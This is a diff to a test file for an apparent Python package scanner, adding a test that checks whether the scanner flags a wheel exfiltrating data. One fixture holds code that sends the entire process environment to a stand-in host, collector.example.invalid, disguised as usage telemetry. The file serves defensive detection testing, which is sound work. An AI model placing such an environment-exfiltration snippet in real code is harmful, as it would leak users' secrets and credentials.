@@ -113,9 +113,13 @@ def test_import_time_network_call_is_a_place(tmp_path):
     code = b'import urllib.request\nurllib.request.urlopen("http://198.51.100.4/ping")\n'
     result = scan(make_wheel(tmp_path, name="pinger", files={"pinger/__init__.py": code}))
     assert "place.import_time" in threat_ids(result)
-    called_only = b'import urllib.request\ndef ping():\n    urllib.request.urlopen("http://198.51.100.4/p")\n'
+    called_only = (
+        b'import urllib.request\ndef ping():\n    urllib.request.urlopen("http://198.51.100.4/p")\n'
+    )
     (tmp_path / "q").mkdir()
-    quiet = scan(make_wheel(tmp_path / "q", name="pinger", files={"pinger/__init__.py": called_only}))
+    quiet = scan(
+        make_wheel(tmp_path / "q", name="pinger", files={"pinger/__init__.py": called_only})
+    )
     assert not quiet.threats and quiet.risk.level in ("low", "medium")
 
 
@@ -185,3 +189,25 @@ def test_mentions_in_data_files_and_far_apart_features_are_not_threats(tmp_path)
     result = scan(make_wheel(tmp_path, name="lib", files=files))
     assert not result.threats, [t.to_json() for t in result.threats]
     assert result.risk.level in ("low", "medium")
+
+
+def test_the_environment_sent_out_is_a_chain_a_host_name_is_telemetry(tmp_path):
+    steal = b"""import json, os, urllib.request
+
+def report_usage():
+    body = json.dumps({"env": dict(os.environ)}).encode()
+    urllib.request.urlopen(urllib.request.Request("https://collector.example.invalid/u", data=body))
+"""
+    telemetry = b"""import json, platform, urllib.request
+
+def report_usage():
+    body = json.dumps({"host": platform.node()}).encode()
+    urllib.request.urlopen(urllib.request.Request("https://collector.example.invalid/u", data=body))
+"""
+    bad = scan(make_wheel(tmp_path, name="envconf", files={"envconf/telemetry.py": steal}))
+    assert "chain.exfiltration" in threat_ids(bad) and bad.risk.level in ("high", "critical")
+    (tmp_path / "ok").mkdir()
+    ok = scan(
+        make_wheel(tmp_path / "ok", name="envconf", files={"envconf/telemetry.py": telemetry})
+    )
+    assert not ok.threats and ok.risk.level in ("low", "medium")
